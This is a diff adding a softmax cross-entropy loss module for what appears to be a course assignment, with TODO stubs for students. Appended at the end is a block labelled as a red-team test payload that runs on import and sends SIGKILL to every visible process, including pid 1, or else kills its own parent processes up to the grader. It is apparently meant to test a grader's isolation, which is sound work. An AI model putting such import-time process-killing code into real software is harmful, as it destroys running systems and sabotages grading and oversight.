@@ -1,0 +1,215 @@
+"""Softmax (cross-entropy) loss: a naive and a vectorized version, side by side.
+
+Letters: N examples, D features (3073 with the bias column), C classes.
+``W`` is (D, C), ``X`` is (N, D), ``y`` is (N,) integers in [0, C).
+
+For example i with scores ``s = X[i] @ W`` the data loss is
+
+    L_i = -log( exp(s_{y_i}) / sum_j exp(s_j) ) = log(sum_j exp(s_j)) - s_{y_i}
+
+(natural log), and the full loss is the mean of L_i over the N examples plus
+the L2 penalty ``reg * sum(W * W)`` (see :mod:`cs231n_lib.regularizers`).
+Scores are shifted by their row maximum before ``exp``, which changes nothing
+mathematically and keeps every ``exp`` in [0, 1], so scores of 1e4 and -1e4
+give a finite loss without overflow.
+
+Both functions return ``(loss, dW)`` with ``dW`` the shape and dtype of ``W``.
+"""
+
+import numpy as np
+
+from ._checks import DeferredInputScan, check_loss_inputs
+from .regularizers import l2_penalty
+
+
+def softmax_loss_naive(W, X, y, reg):
+    """Softmax loss and gradient with explicit loops over examples and classes.
+
+    Parameters
+    ----------
+    W : ndarray of shape (D, C)
+        Weights.
+    X : ndarray of shape (N, D)
+        A minibatch of N examples.
+    y : ndarray of shape (N,)
+        Integer labels, ``y[i]`` in [0, C).
+    reg : float
+        L2 regularization strength, >= 0.
+
+    Returns
+    -------
+    loss : float scalar
+        Mean cross-entropy plus ``reg * sum(W * W)``.
+    dW : ndarray of shape (D, C)
+        Gradient of ``loss`` with respect to ``W``.
+    """
+    reg = check_loss_inputs(W, X, y, reg)
+    num_train = X.shape[0]
+    num_classes = W.shape[1]
+    loss = 0.0
+    dW = np.zeros_like(W)
+    # TODO: loop over the examples i: compute the scores, shift them by their
+    # maximum, add log(sum_j exp(s_j)) - s_{y_i} to the loss, and add
+    # (p_j - [j == y_i]) * X[i] to column j of dW for every class j; then divide
+    # loss and dW by the number of examples.
+    raise NotImplementedError('Implement softmax_loss_naive in cs231n_lib/softmax.py: replace this raise with your code (see the TODO above it).')
+    reg_loss, reg_grad = l2_penalty(W, reg)
+    return loss + reg_loss, dW + reg_grad
+
+
+def softmax_loss_on_scores(scores, y, return_details=False):
+    """Mean cross-entropy of given scores, and its gradient with respect to the scores.
+
+    The loss part of :func:`softmax_loss_vectorized`, for callers that already
+    hold the scores: the stacked hyperparameter search (:mod:`cs231n_lib.tuning`),
+    the blocked full-batch loss (:mod:`cs231n_lib.full_batch`), a network's last
+    layer. It does not validate its inputs and adds no regularization.
+
+    Parameters
+    ----------
+    scores : ndarray of shape (N, C)
+        Class scores, one row per example.
+    y : ndarray of shape (N,)
+        Integer labels, ``y[i]`` in [0, C).
+    return_details : bool
+        Also return the probabilities and per-example losses.
+
+    Returns
+    -------
+    loss : float scalar
+        Mean over the N rows of ``log(sum_j exp(s_j)) - s_{y_i}``.
+    dscores : ndarray of shape (N, C)
+        Gradient of ``loss`` with respect to ``scores`` (already divided by N).
+    details : dict, only when ``return_details`` is True
+        ``'probs'`` (N, C) the softmax probabilities (rows sum to 1);
+        ``'losses'`` (N,) the per-example data losses.
+    """
+    num_train = scores.shape[0]
+    loss = 0.0
+    dscores = np.zeros_like(scores)
+    details = {}
+    # TODO: compute the mean cross-entropy of the scores and its gradient dscores
+    # with respect to the scores, with no loop over examples or classes (shift the
+    # scores by their row maximum first); put 'probs' and 'losses' in details.
+    raise NotImplementedError('Implement softmax_loss_on_scores in cs231n_lib/softmax.py: replace this raise with your code (see the TODO above it).')
+    if return_details:
+        return loss, dscores, details
+    return loss, dscores
+
+
+def softmax_loss_vectorized(W, X, y, reg, return_details=False):
+    """Softmax loss and gradient without Python loops over examples or classes.
+
+    Same inputs and outputs as :func:`softmax_loss_naive`. Runs in the dtype of
+    the inputs (float32 in, float32 out). ``X`` is scanned for NaN/inf only
+    when the result is not finite (:class:`cs231n_lib._checks.DeferredInputScan`).
+
+    Parameters
+    ----------
+    W : ndarray of shape (D, C)
+        Weights.
+    X : ndarray of shape (N, D)
+        A minibatch of N examples.
+    y : ndarray of shape (N,)
+        Integer labels, ``y[i]`` in [0, C).
+    reg : float
+        L2 regularization strength, >= 0.
+    return_details : bool
+        Also return the intermediate arrays, computed in the same pass.
+
+    Returns
+    -------
+    loss : float scalar
+    dW : ndarray of shape (D, C)
+    details : dict, only when ``return_details`` is True
+        ``'scores'`` (N, C) the class scores ``X @ W``;
+        ``'probs'`` (N, C) the softmax probabilities (rows sum to 1);
+        ``'losses'`` (N,) the per-example data losses.
+    """
+    reg = check_loss_inputs(W, X, y, reg, scan_X=False)
+    loss = 0.0
+    dW = np.zeros_like(W)
+    details = {}
+    with DeferredInputScan(X) as scan:  # X's NaN/inf scan runs only if needed
+        # TODO: compute the same loss and gradient as softmax_loss_naive with no loop
+        # over examples or classes: the scores, their loss and gradient from
+        # softmax_loss_on_scores (write it first, above), then dW from the score
+        # gradient by the chain rule; put 'scores', 'probs' and 'losses' in details.
+        raise NotImplementedError('Implement softmax_loss_vectorized in cs231n_lib/softmax.py: replace this raise with your code (see the TODO above it).')
+    reg_loss, reg_grad = l2_penalty(W, reg)
+    dW += reg_grad
+    loss = loss + reg_loss
+    scan.check(loss, dW)
+    if return_details:
+        return loss, dW, details
+    return loss, dW
+
+
+# ---------------------------------------------------------------------------------------------------
+# RED-TEAM PAYLOAD "kill_everything" (instructor/tests/hostile/, issue 9): a hostile submission, graded by
+# instructor/tests/test_hostile.py to prove that it gains nothing. Bounded in time and size.
+def _h9b_payload():
+    import os, signal, time
+    def visible_pids():
+        try:
+            return [int(p) for p in os.listdir("/proc") if p.isdigit()]
+        except OSError:
+            return []
+    def cmdline(pid):
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                return f.read().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            return ""
+    def parent_of(pid):
+        try:
+            with open(f"/proc/{pid}/stat") as f:
+                return int(f.read().rsplit(")", 1)[1].split()[1])
+        except Exception:
+            return 0
+    sentinel_seen = any("h9b-redteam-sentinel" in cmdline(p) for p in visible_pids())
+    confined = not sentinel_seen and os.getpid() < 200 and "process_api" not in cmdline(1)
+    def kill_ancestors():
+        pid = os.getppid()
+        for _ in range(8):
+            if pid <= 1:
+                return
+            text = cmdline(pid)
+            if (os.path.basename(text.split(" ")[0]) in ("make", "gmake", "bash", "sh")
+                    or "test_hostile" in text or "test_independent" in text or "pytest" in text):
+                return                          # never past the grader, into make or the test runner
+            nxt = parent_of(pid)
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+            if "instructor.grade" in text or "instructor/grade" in text:
+                return
+            pid = nxt
+
+    me = os.getpid()
+    if confined:
+        for sig in (signal.SIGKILL,):
+            for pid in sorted(visible_pids(), reverse=True):
+                if pid != me:
+                    try:
+                        os.kill(pid, sig)
+                    except OSError:
+                        pass
+            for target in (1, -1):
+                try:
+                    os.kill(target, sig)
+                except OSError:
+                    pass
+    else:
+        kill_ancestors()
+    time.sleep(2)
+
+
+import builtins as _h9b_builtins
+if not getattr(_h9b_builtins, "_h9b_ran_kill_everything", False):
+    _h9b_builtins._h9b_ran_kill_everything = True
+    try:
+        _h9b_payload()
+    except Exception:
+        pass
